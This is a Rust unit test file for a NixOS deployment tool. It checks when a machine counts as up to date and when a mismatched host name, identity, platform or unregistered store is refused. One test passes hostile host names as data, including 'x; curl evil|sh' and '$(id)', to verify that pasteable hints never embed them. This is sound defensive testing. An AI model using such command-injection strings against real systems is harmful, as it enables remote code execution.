use super::*;
use crate::stages::ask::Facts;
use deploy_wire::{machine::System, outcome::BootDefault, store_path::StorePath};
use std::collections::BTreeMap;

pub(super) fn path(digit: char) -> StorePath {
    let hash: String = std::iter::repeat_n(digit, 32).collect();
    StorePath::parse(&format!("/nix/store/{hash}-nixos-system-frame1")).unwrap()
}

pub(super) fn machine() -> Machine {
    Machine::from_json(serde_json::json!({
        "version": 1, "name": "frame1", "system": "x86_64-linux", "hostName": "frame1",
        "toplevel": { "drv": "/nix/store/00000000000000000000000000000000-x.drv", "out": path('1').as_str() },
        "ssh": { "hostname": "frame1" },
    }))
    .unwrap()
}

pub(super) fn facts() -> Facts {
    Facts {
        system: Some(System::X86_64Linux),
        uname: "x86_64".into(),
        host: "frame1".into(),
        identity: Identity { machine_id: "1".into(), host_keys: Vec::new() },
        runs: Some(path('1')),
        not_registered: false,
        generation: Some(41),
        profile: Some(path('1')),
        boots: BootDefault::Known(path('1')),
        wanted: Some(path('1')),
        nix: Some("/usr/bin/nix-daemon".into()),
        env: Some("/usr/bin/env".into()),
        free: None,
        now: 0,
        agent: None,
        installed: None,
        switching: None,
        failed_units: None,
        watchers: Vec::new(),
        booted_parts: BTreeMap::new(),
        attempt: Ok(None),
        confirmed: Ok(None),
        profiles: Vec::new(),
    }
}

fn confirmed(toplevel: StorePath) -> Confirmed {
    let text = include_str!("../../../../wire/golden/message/confirmed.json");
    Confirmed { toplevel, ..serde_json::from_str(text).unwrap() }
}

fn plan(facts: &Facts) -> Plan {
    decide(&machine(), facts, Mode::Switch, &AcceptedName::default()).unwrap()
}

#[test]
fn up_to_date_means_running_and_profile_and_booting() {
    assert_eq!(plan(&facts()), Plan::UpToDate);
    let unknown = Facts { boots: BootDefault::Unknown("why".into()), ..facts() };
    assert_eq!(plan(&unknown), Plan::UpToDate);
    for changed in [
        Facts { runs: Some(path('2')), ..facts() },
        Facts { profile: Some(path('2')), ..facts() },
        Facts { profile: None, ..facts() },
        Facts { boots: BootDefault::Known(path('2')), ..facts() },
        Facts { wanted: None, ..facts() },
        Facts { confirmed: Err("broken".into()), ..facts() },
    ] {
        assert_eq!(plan(&changed), Plan::Deploy, "{changed:?}");
    }
}

#[test]
fn up_to_date_is_confirmed_only_where_it_was() {
    let with = |confirmed| Facts { confirmed, ..facts() };
    assert!(!with(Ok(None)).is_confirmed(), "it is the baseline");
    assert!(!with(Err("damaged".into())).is_confirmed());
    assert!(!with(Ok(Some(confirmed(path('2'))))).is_confirmed());
    assert!(with(Ok(Some(confirmed(path('1'))))).is_confirmed());
}

#[test]
fn the_wrong_machine_is_refused_unless_its_name_is_accepted() {
    let other = Facts { host: "frame2".into(), ..facts() };
    let refused = decide(&machine(), &other, Mode::Switch, &AcceptedName::default()).unwrap_err();
    assert_eq!(refused.what, "this is not frame1: it calls itself `frame2`");
    let accepted = AcceptedName(Some("frame2".into()));
    assert!(decide(&machine(), &other, Mode::Switch, &accepted).is_ok());
}

#[test]
fn a_system_without_a_host_name_is_for_a_machine_of_any_name() {
    for wanted in [None, Some(String::new())] {
        let machine = Machine { host_name: wanted, ..machine() };
        let any = Facts { host: "ip-10-0-0-7".into(), ..facts() };
        assert!(decide(&machine, &any, Mode::Switch, &AcceptedName::default()).is_ok());
    }
}

#[test]
fn a_new_machine_id_is_no_other_machine_while_a_host_key_is_the_same() {
    let known = confirmed(path('1'));
    let key = known.host_keys[0].clone();
    let with = |machine_id: &str, host_keys: Vec<String>| Facts {
        confirmed: Ok(Some(known.clone())),
        identity: Identity { machine_id: machine_id.into(), host_keys },
        ..facts()
    };
    assert_eq!(plan(&with(&known.machine_id, vec!["ssh-rsa B".into()])), Plan::UpToDate);
    assert_eq!(plan(&with("new", vec![key])), Plan::UpToDate);
    // The user may not read the keys, so the agent compares them.
    assert_eq!(plan(&with("new", Vec::new())), Plan::UpToDate);
    let other = with("new", vec!["ssh-rsa B".into()]);
    let refused = decide(&machine(), &other, Mode::Switch, &AcceptedName::default());
    let refused = refused.unwrap_err();
    assert_eq!(refused.what, "the disk of frame1 is another machine's");
    assert!(refused.causes[0].contains("this one has new"), "{:?}", refused.causes);
}

#[test]
fn an_attempt_is_busy_whatever_else_of_the_agent_is_active() {
    let record = include_str!("../../../../wire/golden/message/record.json");
    let record: Record = serde_json::from_str(record).unwrap();
    let own = format!("deploy-agent-{}.service", record.attempt);
    let with = |watchers: &[&str]| {
        let watchers = watchers.iter().map(|unit| (*unit).to_owned()).collect();
        let record = Record { outcome: None, ..record.clone() };
        plan(&Facts { watchers, attempt: Ok(Some(record)), ..facts() })
    };
    assert!(matches!(with(&[&own, "deploy-agent-boot.service"]), Plan::Busy(_)));
    assert!(matches!(with(&["deploy-agent-boot.service", &own]), Plan::Busy(_)));
    assert_eq!(with(&["deploy-agent-boot.service"]), Plan::Deploy);
}

#[test]
fn a_hint_to_paste_has_nothing_that_a_machine_made_a_command_of() {
    for host in ["x; curl evil|sh", "$(id)", "-y", "a\nb", "", "a\u{202e}b"] {
        let other = Facts { host: host.into(), ..facts() };
        let refused = decide(&machine(), &other, Mode::Switch, &AcceptedName::default());
        let hint = refused.unwrap_err().hint.unwrap();
        assert!(!hint.contains("--accept-name"), "{hint}");
    }
}

#[test]
fn a_machine_whose_store_was_never_registered_is_refused() {
    let image = Facts { not_registered: true, wanted: None, ..facts() };
    let refused = decide(&machine(), &image, Mode::Switch, &AcceptedName::default()).unwrap_err();
    assert!(refused.hint.unwrap().contains("--load-db"));
}

#[test]
fn another_platform_is_refused() {
    let other = Facts { system: Some(System::Aarch64Linux), uname: "aarch64".into(), ..facts() };
    assert!(decide(&machine(), &other, Mode::Switch, &AcceptedName::default()).is_err());
}
